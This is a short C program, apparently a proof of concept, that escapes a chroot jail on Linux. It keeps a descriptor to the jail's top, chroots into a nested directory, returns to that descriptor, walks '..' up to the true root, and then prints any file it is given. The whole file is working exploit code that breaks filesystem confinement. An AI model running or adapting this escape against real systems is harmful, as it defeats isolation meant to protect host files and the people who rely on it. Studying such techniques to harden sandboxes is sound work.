/*
 * Different: a descriptor of the jail's top is the way back above the second root.
 * close-on-exec or not, chroot() closes no descriptor.
 */
#define _GNU_SOURCE
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#define SECOND "second-root"

/* The top of the tree is the one directory that is its own parent. */
static int at_the_top(void)
{
	struct stat here, parent;

	if (stat(".", &here) < 0 || stat("..", &parent) < 0)
		err(1, "stat");
	return here.st_dev == parent.st_dev && here.st_ino == parent.st_ino;
}

static void print(const char *path)
{
	char buffer[4096];
	ssize_t n;
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		err(1, "%s", path);
	while ((n = read(fd, buffer, sizeof(buffer))) > 0)
		if (write(STDOUT_FILENO, buffer, n) != n)
			err(1, "write");
	if (n < 0)
		err(1, "%s", path);
}

int main(int argc, char *argv[])
{
	int top;

	if (argc != 2) {
		fprintf(stderr, "usage: escape FILE\n");
		return 2;
	}
	if (chdir("/") < 0)
		err(1, "chdir /");

	/*
	 * The kernel stops ".." at the root directory of the process, and
	 * nowhere else. So stand somewhere that is not below the root.
	 */
	top = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (top < 0)
		err(1, "open /");
	if (mkdir(SECOND, 0700) < 0 && errno != EEXIST)
		err(1, "mkdir " SECOND);
	if (chdir(SECOND) < 0 || chroot(".") < 0)
		err(1, "chroot " SECOND);
	if (fchdir(top) < 0)
		err(1, "fchdir");

	/* Leave the jail as it was. The name still leads from where we are. */
	rmdir(SECOND);

	while (!at_the_top()) {
		if (chdir("..") < 0)
			err(1, "chdir ..");
	}

	/* FILE is looked up from the root, and that is still the wrong one. */
	if (chroot(".") < 0)
		err(1, "chroot .");

	print(argv[1]);
	return 0;
}
